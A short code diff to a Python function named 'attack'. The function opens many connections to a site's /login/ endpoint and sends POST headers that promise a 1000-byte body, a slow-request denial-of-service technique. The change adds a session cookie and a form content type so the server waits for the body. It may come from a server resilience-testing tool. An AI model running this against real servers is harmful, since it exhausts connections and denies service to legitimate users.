@@ -7,7 +7,9 @@ SIZE, SMALL = 200, 30
 
 
 def attack(site: Site, size: int) -> None:
-    head = site.head("POST", "/login/", Content_Type="text/plain", Content_Length="1000")
+    cookie, _token = site.form()  # without it the body would not be read
+    kind = "application/x-www-form-urlencoded"
+    head = site.head("POST", "/login/", Cookie=cookie, Content_Type=kind, Content_Length="1000")
     with connections(site, size) as clients:
         for each in clients:
             each.sendall(head + b"\r\n")
